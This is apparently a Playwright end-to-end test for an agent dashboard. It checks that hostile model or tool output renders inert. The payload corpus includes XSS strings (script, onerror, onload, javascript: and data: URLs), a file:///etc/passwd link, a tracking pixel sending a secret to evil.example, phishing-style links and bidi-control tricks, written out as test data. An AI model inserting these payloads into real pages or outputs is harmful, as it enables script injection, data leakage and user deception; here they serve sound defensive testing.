"""What a hostile model or tool writes stays inert in the dashboard."""

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.e2e.dashboard import WAIT_MS, Board, Visitor, needs_assets, needs_browser, open_browser
from tests.fake_endpoint import DONE, Answer, Behaviour, Request, calls, delta, fragment, usage

pytestmark = [needs_browser, needs_assets]
CORPUS = (
    "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe><base href='https://evil.example/'>",
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)",
    "[vb](vbscript:x) [file](file:///etc/passwd) [tab](java\tscript:window.hacked=1)",
    "![tracker](https://evil.example/pixel.png?secret) ![svg](data:image/svg+xml,<svg onload=hacked=1>)",
    '<https://evil.example/"onmouseover="window.hacked=1> https://evil.example/<script>',
    "[good.example](https://evil.example/login) [a](https://good.example@evil.example/)",
    "\u202egpj.exe\u202c and \u2066isolated\u2069 and zero\u200bwidth and \u0007 bell \u001b[31m",
    "```html\n<script>window.hacked = 1</script>\n```\n`<img src=x onerror=hacked=1>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=hacked=1> | {{constructor.constructor('hacked=1')()}} |",
    "*" * 3_000 + "[" * 3_000 + "`" * 3_001 + "_a" * 3_000,
    "> " * 2_000 + "deep",
    "- " * 2_000 + "deep",
    "(" * 3_000 + "](" * 3_000,
)


REORDERED = "\u202egpj.exe\u202c zero\u200bwidth"
FIND_HIDDEN = r"""() => {
    const named = [...document.querySelectorAll('[title], [aria-label]')];
    const shown = [document.body.innerText, ...named.flatMap((each) => [each.title, each.ariaLabel ?? ''])];
    return shown.flatMap((text) => text.match(/.{0,40}[\u200b\u202a-\u202e\u2066-\u2069].{0,40}/g) ?? []);
}"""


def hostile(request: Request) -> Behaviour:
    text = "\n\n".join(CORPUS)
    messages = request.json["messages"]
    if "a question" in str(messages[-1]["content"]):
        asked = {"question": REORDERED, "options": [REORDERED, "main"]}
        return calls(fragment(0, "call_1", "clarify", json.dumps(asked, ensure_ascii=False)))
    if "a command" in str(messages[-1]["content"]):
        return calls(
            fragment(0, "call_1", "bash", json.dumps({"command": f"echo {REORDERED}"}, ensure_ascii=False))
        )
    if "long line" in str(messages[-1]["content"]):
        text = "x" * 5_000_000
    pieces = [delta(content=text[at : at + 200_000]) for at in range(0, len(text), 200_000)]
    return Answer([delta(role="assistant", content=""), *pieces, delta("stop"), usage(), DONE])


@pytest.mark.parametrize("message", ["<img src=x onerror='window.hacked=1'>", "a long line please"])
def test_hostile_output_stays_inert(tmp_path: Path, message: str) -> None:
    board = Board(tmp_path, hostile)
    try:
        with open_browser() as browser:
            visitor = Visitor(browser.new_context(), board)
            visitor.sign_in()
            run = board.run(message)
            assert run["status"] == "completed", run
            asking = board.run(f"a question {REORDERED}", wait=0)["run_id"]
            waiting = board.run(f"a command {REORDERED}", "reviewer", wait=0)["run_id"]
            visitor.see(f"/runs/{asking}").get_by_role("button", name="main", exact=True).wait_for()
            visitor.see(f"/runs/{waiting}").get_by_role("button", name="Deny").wait_for()
            for text in (*CORPUS, REORDERED) if "img" in message else ():
                board.call("POST", "/v1/memory", {"agent": "default", "text": text[:8000]})
            for path in (
                "/memory?agent=default",
                f"/runs/{asking}",
                f"/runs/{waiting}",
                f"/runs/{waiting}?tab=timeline",
                f"/compare?left={run['run_id']}&right={asking}",
                "/inbox",
                f"/runs/{run['run_id']}",
                f"/runs/{run['run_id']}?tab=steps",
                f"/runs/{run['run_id']}?tab=events",
                f"/chat/{run['session_id']}",
                "/runs",
                "/search?text=hacked",
            ):
                page = visitor.see(path)
                assert page.evaluate("window.hacked") is None
                assert page.evaluate(FIND_HIDDEN) == []
                inside = page.locator(".untrusted")
                for tag in ("script", "img", "iframe", "svg", "base", "object", "[onerror]", "[onload]"):
                    expect(inside.locator(tag)).to_have_count(0)
                for link in inside.locator("a[target]").all():
                    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
                    assert str(link.get_attribute("href")).startswith(("http://", "https://", "mailto:"))
                assert page.evaluate("document.getElementsByTagName('*').length") < 6_000
            page = visitor.see(f"/runs/{run['run_id']}")
            if "img" in message:
                expect(page.get_by_text("(evil.example)").first).to_be_visible(timeout=WAIT_MS)
                expect(page.get_by_text("⟨U+202E⟩").first).to_be_visible(timeout=WAIT_MS)
            else:
                expect(page.get_by_text("4.8 MB").first).to_be_visible(timeout=WAIT_MS)
            assert visitor.complaints == []
            assert visitor.foreign_requests() == []
    finally:
        board.close()
